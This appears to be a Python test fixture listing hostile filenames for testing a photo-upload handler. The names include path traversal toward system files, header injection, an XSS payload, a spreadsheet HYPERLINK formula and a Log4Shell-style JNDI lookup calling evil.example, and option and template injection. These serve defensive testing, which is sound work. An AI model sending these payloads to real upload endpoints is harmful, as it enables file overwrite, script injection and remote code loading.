"""Names that a photo may be sent under; its bytes are sound."""

from tests.hostile.file import Hostile
from tests.hostile.photos import jpeg

NAMES = {
    "name-up-the-folders": "../../../../etc/cron.d/photo.jpg",
    "name-up-windows-folders": "..\\..\\windows\\photo.jpg",
    "name-absolute": "/etc/passwd",
    "name-only-dots": "..",
    "name-with-nul": "photo\0.jpg.exe",
    "name-right-to-left": "photo\u202egpj.exe",
    "name-of-255-bytes": "a" * 251 + ".jpg",
    "name-of-255-characters-of-4-bytes": "🏃" * 251 + ".jpg",
    "name-of-3000-bytes": "b" * 2996 + ".jpg",
    "name-with-newlines": "photo\r\nX-Evil: yes\r\n\r\n.jpg",
    "name-of-emoji": "🏃‍♀️💨🏅.jpg",
    "name-with-script": "<img src=x onerror=alert(1)>.jpg",
    "name-with-quotes": 'a"; filename="b\';--.jpg',
    "name-a-formula": '=HYPERLINK("http://evil.example","x").jpg',
    "name-an-option": "--rf.jpg",
    "name-encoded-twice": "%252e%252e%252fphoto.jpg",
    "name-of-a-device": "CON.jpg",
    "name-a-template": "${jndi:ldap://evil.example}{{7*7}}.jpg",
    "name-of-blanks": " \t ",
    "name-decomposed": "Zu\u0308rich e\u0301te\u0301.jpg",
}

NAMED = tuple(Hostile(what=what, make=jpeg, name=name) for what, name in NAMES.items())
